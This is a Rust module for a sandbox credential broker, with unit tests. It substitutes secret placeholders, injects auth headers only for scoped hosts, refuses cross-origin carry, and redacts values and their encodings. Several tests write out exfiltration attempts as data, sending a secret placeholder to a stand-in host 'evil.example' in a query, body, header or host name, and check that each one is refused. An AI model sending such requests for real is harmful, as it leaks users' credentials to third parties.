//! Credentials: their values (read once, from the environment or a file), their use on
//! outgoing requests (placeholder substitution and header injection, only towards the hosts
//! each credential is scoped to, as `crate::net`'s [`CredentialBroker`]), and redaction
//! (every value replaced by its placeholder in whatever flows back).
//!
//! Values never enter the sandbox: the guest writes placeholders, the host substitutes them on
//! the way out, and redacts the values on the way back in.

mod placeholder;
mod redact;
mod spec;

use std::borrow::Cow;
use std::collections::BTreeMap;

use url::Url;

use crate::net::{AllowList, CredentialBroker, Request, WithCredentials};

pub use placeholder::placeholder;
use placeholder::{PLACEHOLDER_PREFIX, mentions_placeholder, placeholders_in};
pub use redact::Redactor;
use redact::replace_bytes;
pub use spec::{CredentialSpec, Injection, InvalidCredential, SECRET_MARK, is_env_var_name};

/// The shortest value that can be redacted without mangling ordinary text.
pub const MIN_SECRET_BYTES: usize = 8;

struct Credential {
    name: String,
    placeholder: String,
    /// The value, or why it could not be read.
    value: Result<String, String>,
    hosts: AllowList,
    inject: Option<Injection>,
}

/// Every credential of the policy, loaded.
#[derive(Default)]
pub struct Credentials {
    credentials: Vec<Credential>,
    redactor: Redactor,
}

impl std::fmt::Debug for Credentials {
    /// Names and availability only.
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_map()
            .entries(
                self.credentials
                    .iter()
                    .map(|c| (&c.name, c.value.as_ref().map(|_| "loaded"))),
            )
            .finish()
    }
}

impl Credentials {
    /// Reads every credential's value. A value that cannot be read leaves that credential
    /// unusable (requests needing it are refused with the reason) and is returned as a
    /// warning; it never stops the server.
    pub fn load(specs: &BTreeMap<String, CredentialSpec>) -> (Credentials, Vec<String>) {
        Credentials::load_with(specs, |name| std::env::var(name).ok())
    }

    /// [`Self::load`] with the environment given (tests).
    pub fn load_with(
        specs: &BTreeMap<String, CredentialSpec>,
        env: impl Fn(&str) -> Option<String>,
    ) -> (Credentials, Vec<String>) {
        let mut warnings = Vec::new();
        let credentials = specs
            .iter()
            .map(|(name, spec)| {
                let value = read_value(spec, &env).and_then(|v| {
                    if v.len() < MIN_SECRET_BYTES {
                        Err(format!(
                            "its value is shorter than {MIN_SECRET_BYTES} bytes, too short to redact reliably"
                        ))
                    } else if v.contains(PLACEHOLDER_PREFIX) {
                        Err("its value contains a placeholder".to_string())
                    } else {
                        Ok(v)
                    }
                });
                if let Err(why) = &value {
                    warnings.push(format!("credential `{name}` is unavailable: {why}"));
                }
                Credential {
                    name: name.clone(),
                    placeholder: placeholder(name),
                    value,
                    hosts: AllowList::new(spec.hosts.clone()),
                    inject: spec.inject.clone(),
                }
            })
            .collect::<Vec<_>>();
        let redactor = Credentials::build_redactor(&credentials);
        (
            Credentials {
                credentials,
                redactor,
            },
            warnings,
        )
    }

    pub fn is_empty(&self) -> bool {
        self.credentials.is_empty()
    }

    /// The names, for the tool description.
    pub fn names(&self) -> impl Iterator<Item = &str> {
        self.credentials.iter().map(|c| c.name.as_str())
    }

    /// Replaces every secret value (and its common encodings) by its placeholder.
    pub fn redactor(&self) -> &Redactor {
        &self.redactor
    }

    fn build_redactor(credentials: &[Credential]) -> Redactor {
        Redactor::new(credentials.iter().filter_map(|c| {
            c.value
                .as_ref()
                .ok()
                .map(|value| (value.as_str(), c.placeholder.as_str()))
        }))
    }

    /// Puts credentials into a request bound for `request.url`: placeholders are substituted
    /// (percent-encoded in the URL) and injected headers set. `allowed` limits the credentials
    /// to a grant's (`None`: all). `carry` is false after a redirect changed the origin: then
    /// no credential goes out, and a placeholder anywhere refuses the request.
    fn put_in(
        &self,
        request: &Request,
        allowed: Option<&[String]>,
        carry: bool,
    ) -> Result<WithCredentials, String> {
        let url_text = request.url.as_str();
        // Hosts are case-folded by the URL parser: look for the placeholder in any case.
        let prefix = PLACEHOLDER_PREFIX.to_ascii_lowercase();
        let host_part = request
            .url
            .host_str()
            .unwrap_or_default()
            .to_ascii_lowercase();
        if host_part.contains(&prefix)
            || request
                .url
                .username()
                .to_ascii_lowercase()
                .contains(&prefix)
        {
            return Err("a credential placeholder cannot be part of the host".into());
        }
        let mut used: Vec<String> = Vec::new();
        let mentioned = placeholders_in;
        let mut names: Vec<String> = mentioned(url_text.as_bytes());
        for (name, value) in &request.headers {
            names.extend(mentioned(name.as_bytes()));
            names.extend(mentioned(value.as_bytes()));
        }
        names.extend(mentioned(&request.body));
        names.sort();
        names.dedup();
        let target = request.url.host_str().unwrap_or_default().to_string();
        let mut substitutions: Vec<(&str, &str)> = Vec::new();
        for name in &names {
            let credential = self
                .credentials
                .iter()
                .find(|c| &c.name == name)
                .ok_or_else(|| format!("there is no credential named `{name}`"))?;
            if !carry {
                return Err(format!(
                    "credential `{name}` cannot follow a redirect to another origin ({target})"
                ));
            }
            if allowed.is_some_and(|a| !a.contains(name)) {
                return Err(format!(
                    "credential `{name}` is not available to this caller"
                ));
            }
            if credential
                .hosts
                .check(&request.method, &request.url)
                .is_err()
            {
                return Err(format!(
                    "credential `{name}` may not be sent to {target}: the whole request is refused"
                ));
            }
            let value = credential
                .value
                .as_ref()
                .map_err(|why| format!("credential `{name}` is unavailable: {why}"))?;
            substitutions.push((credential.placeholder.as_str(), value.as_str()));
            used.push(name.clone());
        }

        let url = if substitutions.is_empty() {
            request.url.clone()
        } else {
            let mut text = url_text.to_string();
            for (placeholder, value) in &substitutions {
                let encoded: String = percent_encoding::utf8_percent_encode(
                    value,
                    percent_encoding::NON_ALPHANUMERIC,
                )
                .to_string();
                text = text.replace(placeholder, &encoded);
            }
            let url = Url::parse(&text)
                .map_err(|e| format!("the URL is invalid after substitution: {e}"))?;
            if url.host_str() != request.url.host_str() || url.port() != request.url.port() {
                return Err("substitution changed the request's host".into());
            }
            url
        };
        let mut headers: Vec<(String, String)> = request
            .headers
            .iter()
            .map(|(n, v)| (n.clone(), substitute(v, &substitutions)))
            .collect();
        let body = if substitutions.is_empty() {
            request.body.clone()
        } else {
            let mut body = request.body.clone();
            for (placeholder, value) in &substitutions {
                body = replace_bytes(&body, placeholder.as_bytes(), value.as_bytes()).into_owned();
            }
            body
        };

        if carry {
            for credential in &self.credentials {
                let Some(inject) = &credential.inject else {
                    continue;
                };
                if allowed.is_some_and(|a| !a.contains(&credential.name))
                    || credential
                        .hosts
                        .check(&request.method, &request.url)
                        .is_err()
                {
                    continue;
                }
                if headers
                    .iter()
                    .any(|(n, _)| n.eq_ignore_ascii_case(&inject.header))
                {
                    return Err(format!(
                        "the server sets the {} header for {target} (credential `{}`); the code may not",
                        inject.header, credential.name
                    ));
                }
                let value = credential.value.as_ref().map_err(|why| {
                    format!("credential `{}` is unavailable: {why}", credential.name)
                })?;
                headers.push((
                    inject.header.clone(),
                    inject.value.replace(SECRET_MARK, value),
                ));
                if !used.contains(&credential.name) {
                    used.push(credential.name.clone());
                }
            }
        }
        Ok(WithCredentials {
            request: Request {
                method: request.method.clone(),
                url,
                headers,
                body,
            },
            used,
        })
    }
}

fn read_value(
    spec: &CredentialSpec,
    env: &impl Fn(&str) -> Option<String>,
) -> Result<String, String> {
    match (&spec.env, &spec.file) {
        (Some(var), _) => env(var)
            .filter(|v| !v.is_empty())
            .ok_or_else(|| format!("environment variable {var} is not set")),
        (None, Some(path)) => std::fs::read_to_string(path)
            .map(|v| v.trim_end_matches(['\n', '\r']).to_string())
            .map_err(|e| format!("cannot read {}: {e}", path.display()))
            .and_then(|v| {
                if v.is_empty() {
                    Err(format!("{} is empty", path.display()))
                } else {
                    Ok(v)
                }
            }),
        (None, None) => Err("it has no source".into()),
    }
}

impl CredentialBroker for Credentials {
    fn apply(
        &self,
        request: &Request,
        allowed: Option<&[String]>,
        carry: bool,
    ) -> Result<WithCredentials, String> {
        self.put_in(request, allowed, carry)
    }

    fn redact(&self, text: &str) -> String {
        self.redactor.redact(text)
    }

    fn redact_bytes<'a>(&self, data: &'a [u8]) -> Cow<'a, [u8]> {
        self.redactor.redact_bytes(data)
    }

    fn redact_case_folded(&self, text: &str) -> String {
        self.redactor.redact_case_folded(text)
    }

    fn refers_to_credential(&self, text: &str) -> bool {
        mentions_placeholder(text)
    }
}

fn substitute(text: &str, substitutions: &[(&str, &str)]) -> String {
    let mut text = text.to_string();
    for (placeholder, value) in substitutions {
        text = text.replace(placeholder, value);
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;
    use base64::Engine as _;
    use redact::lower_hex_escapes;

    const SECRET: &str = "ghp_S3cr3tV4lue/with+odd&chars";

    /// The `[credentials]` tables of a policy document.
    fn specs(toml_text: &str) -> BTreeMap<String, CredentialSpec> {
        #[derive(serde::Deserialize)]
        struct Document {
            credentials: BTreeMap<String, CredentialSpec>,
        }
        toml::from_str::<Document>(toml_text).unwrap().credentials
    }

    fn credentials() -> Credentials {
        let specs = specs(
            r#"
[credentials.github]
env = "GH"
hosts = ["https://api.github.com"]
inject = { header = "Authorization", value = "Bearer {secret}" }

[credentials.weather]
env = "WEATHER"
hosts = ["https://api.weather.example/data/"]

[credentials.missing]
env = "NOT_SET"
hosts = ["https://missing.example"]
"#,
        );
        let (c, warnings) = Credentials::load_with(&specs, |name| match name {
            "GH" => Some(SECRET.into()),
            "WEATHER" => Some("w-key-12345678".into()),
            _ => None,
        });
        assert_eq!(warnings.len(), 1, "{warnings:?}");
        assert!(warnings[0].contains("`missing`") && warnings[0].contains("NOT_SET is not set"));
        c
    }

    fn request(method: &str, url: &str, headers: &[(&str, &str)], body: &str) -> Request {
        Request {
            method: method.to_ascii_uppercase(),
            url: Url::parse(url).unwrap(),
            headers: headers
                .iter()
                .map(|(n, v)| (n.to_string(), v.to_string()))
                .collect(),
            body: body.as_bytes().to_vec(),
        }
    }

    #[test]
    fn injection_adds_the_header_for_the_scoped_host_only() {
        let c = credentials();
        let p = c
            .apply(
                &request("GET", "https://api.github.com/user", &[], ""),
                None,
                true,
            )
            .unwrap();
        assert_eq!(
            p.request.headers,
            vec![("Authorization".to_string(), format!("Bearer {SECRET}"))]
        );
        assert_eq!(p.used, vec!["github"]);
        let elsewhere = c
            .apply(&request("GET", "https://example.com/", &[], ""), None, true)
            .unwrap();
        assert!(elsewhere.request.headers.is_empty() && elsewhere.used.is_empty());
    }

    #[test]
    fn the_guest_cannot_set_an_injected_header() {
        let c = credentials();
        let e = c
            .apply(
                &request(
                    "GET",
                    "https://api.github.com/",
                    &[("authorization", "Bearer mine")],
                    "",
                ),
                None,
                true,
            )
            .unwrap_err();
        assert!(
            e.contains("the server sets the Authorization header"),
            "{e}"
        );
        let injected = c
            .apply(
                &request("GET", "https://api.github.com/x", &[], ""),
                None,
                true,
            )
            .unwrap();
        let names: Vec<&str> = injected
            .request
            .headers
            .iter()
            .map(|(n, _)| n.as_str())
            .collect();
        assert_eq!(names, vec!["Authorization"]);
    }

    #[test]
    fn placeholders_are_substituted_in_headers_query_and_body() {
        let c = credentials();
        let p = c
            .apply(
                &request(
                    "POST",
                    "https://api.weather.example/data/q?appid=__WARDEN_SECRET_weather__&x=1",
                    &[("X-Key", "k=__WARDEN_SECRET_weather__")],
                    r#"{"key":"__WARDEN_SECRET_weather__"}"#,
                ),
                None,
                true,
            )
            .unwrap();
        assert_eq!(p.request.url.query(), Some("appid=w%2Dkey%2D12345678&x=1"));
        assert_eq!(p.request.headers[0].1, "k=w-key-12345678");
        assert_eq!(p.request.body, br#"{"key":"w-key-12345678"}"#);
        assert_eq!(p.used, vec!["weather"]);
    }

    #[test]
    fn url_substitution_is_percent_encoded_and_keeps_the_host() {
        let c = credentials();
        let p = c
            .apply(
                &request(
                    "GET",
                    "https://api.github.com/x?t=__WARDEN_SECRET_github__",
                    &[],
                    "",
                ),
                None,
                true,
            )
            .unwrap();
        assert_eq!(p.request.url.host_str(), Some("api.github.com"));
        assert!(
            !p.request.url.as_str().contains('&') || p.request.url.query_pairs().count() == 1,
            "{}",
            p.request.url
        );
        assert_eq!(
            p.request.url.query_pairs().next().unwrap().1,
            SECRET,
            "decodes back to the value"
        );
    }

    #[test]
    fn a_placeholder_bound_elsewhere_refuses_the_whole_request() {
        let c = credentials();
        for (method, url, headers, body) in [
            (
                "GET",
                "https://evil.example/?k=__WARDEN_SECRET_github__",
                vec![],
                "",
            ),
            (
                "POST",
                "https://evil.example/",
                vec![],
                "__WARDEN_SECRET_github__",
            ),
            (
                "GET",
                "https://evil.example/",
                vec![("X", "__WARDEN_SECRET_weather__")],
                "",
            ),
            // In scope by host, but outside the credential's path prefix.
            (
                "GET",
                "https://api.weather.example/other?k=__WARDEN_SECRET_weather__",
                vec![],
                "",
            ),
        ] {
            let e = c
                .apply(&request(method, url, &headers, body), None, true)
                .unwrap_err();
            assert!(e.contains("may not be sent to"), "{url}: {e}");
        }
    }

    #[test]
    fn unknown_unavailable_and_ungranted_credentials_are_refused() {
        let c = credentials();
        let e = c
            .apply(
                &request(
                    "GET",
                    "https://x.example/?k=__WARDEN_SECRET_nope__",
                    &[],
                    "",
                ),
                None,
                true,
            )
            .unwrap_err();
        assert!(e.contains("no credential named `nope`"), "{e}");
        let e = c
            .apply(
                &request(
                    "GET",
                    "https://missing.example/?k=__WARDEN_SECRET_missing__",
                    &[],
                    "",
                ),
                None,
                true,
            )
            .unwrap_err();
        assert!(e.contains("NOT_SET is not set"), "{e}");
        let only_weather = vec!["weather".to_string()];
        let e = c
            .apply(
                &request(
                    "GET",
                    "https://api.github.com/?k=__WARDEN_SECRET_github__",
                    &[],
                    "",
                ),
                Some(&only_weather),
                true,
            )
            .unwrap_err();
        assert!(e.contains("not available to this caller"), "{e}");
        // An ungranted credential is not injected either.
        let p = c
            .apply(
                &request("GET", "https://api.github.com/", &[], ""),
                Some(&only_weather),
                true,
            )
            .unwrap();
        assert!(p.request.headers.is_empty());
    }

    #[test]
    fn nothing_is_carried_across_origins() {
        let c = credentials();
        let p = c
            .apply(
                &request("GET", "https://api.github.com/", &[], ""),
                None,
                false,
            )
            .unwrap();
        assert!(p.request.headers.is_empty() && p.used.is_empty());
        let e = c
            .apply(
                &request(
                    "GET",
                    "https://api.github.com/?k=__WARDEN_SECRET_github__",
                    &[],
                    "",
                ),
                None,
                false,
            )
            .unwrap_err();
        assert!(e.contains("cannot follow a redirect"), "{e}");
    }

    #[test]
    fn a_placeholder_in_the_host_is_refused() {
        let c = credentials();
        let e = c
            .apply(
                &request(
                    "GET",
                    "https://__WARDEN_SECRET_github__.evil.example/",
                    &[],
                    "",
                ),
                None,
                true,
            )
            .unwrap_err();
        assert!(e.contains("part of the host"), "{e}");
    }

    #[test]
    fn redaction_replaces_values_and_their_encodings() {
        let r = credentials().redactor().clone();
        let b64 = base64::engine::general_purpose::STANDARD.encode(SECRET);
        let text = format!(
            "raw {SECRET} url {} json {} b64 {b64} end",
            percent_encoding::utf8_percent_encode(SECRET, percent_encoding::NON_ALPHANUMERIC),
            serde_json::to_string(SECRET).unwrap(),
        );
        let out = r.redact(&text);
        assert!(!out.contains(SECRET), "{out}");
        assert!(!out.contains(&b64[..b64.len() - 4]), "{out}");
        assert_eq!(out.matches("__WARDEN_SECRET_github__").count(), 4, "{out}");
        let mut json = serde_json::json!({"k": [SECRET, {SECRET: 1}]});
        r.redact_json(&mut json);
        assert!(!json.to_string().contains("S3cr3t"), "{json}");
    }

    #[test]
    fn case_folded_text_is_redacted_in_either_case() {
        let r = credentials().redactor().clone();
        let b64 = base64::engine::general_purpose::STANDARD.encode(SECRET);
        for name in [
            SECRET.to_string(),
            SECRET.to_ascii_lowercase(),
            format!("x-{}", SECRET.to_ascii_uppercase()),
            format!("x-{}", b64.to_ascii_lowercase()),
        ] {
            let out = r.redact_case_folded(&name);
            assert!(
                !out.contains(&SECRET.to_ascii_lowercase()) && !out.contains("s3cr3t"),
                "{name} -> {out}"
            );
            assert!(out.contains("__WARDEN_SECRET_github__"), "{name} -> {out}");
        }
        assert_eq!(r.redact_case_folded("Content-Type"), "content-type");
    }

    #[test]
    fn redaction_covers_the_encodings_servers_and_clients_use() {
        let r = credentials().redactor().clone();
        let minimal =
            percent_encoding::utf8_percent_encode(SECRET, percent_encoding::NON_ALPHANUMERIC)
                .to_string();
        let b64 = |prefix: &str| {
            base64::engine::general_purpose::STANDARD.encode(format!("{prefix}{SECRET}"))
        };
        for text in [
            // encodeURIComponent leaves - _ . ! ~ * ' ( ) alone.
            "ghp_S3cr3tV4lue%2Fwith%2Bodd%26chars".to_string(),
            lower_hex_escapes(&minimal),
            url::form_urlencoded::byte_serialize(SECRET.as_bytes()).collect::<String>(),
            serde_json::to_string(SECRET).unwrap().replace('/', "\\/"),
            SECRET
                .bytes()
                .map(|b| format!("{b:02x}"))
                .collect::<String>(),
            // Basic authentication: the value inside a longer base64 string, at each alignment.
            b64("user:"),
            b64("ab:"),
            b64("a:"),
            b64(""),
        ] {
            let out = r.redact(&format!("<{text}>"));
            assert!(out.contains("__WARDEN_SECRET_github__"), "{text} -> {out}");
        }
    }

    #[test]
    fn short_values_are_refused_at_load() {
        let specs = specs("[credentials.k]\nenv = \"K\"\nhosts = [\"https://a.example\"]\n");
        let (c, warnings) = Credentials::load_with(&specs, |_| Some("abc".into()));
        assert!(warnings[0].contains("too short"), "{warnings:?}");
        assert!(c.redactor().is_empty());
        assert!(format!("{c:?}").contains("too short") && !format!("{c:?}").contains("abc\""));
    }
}
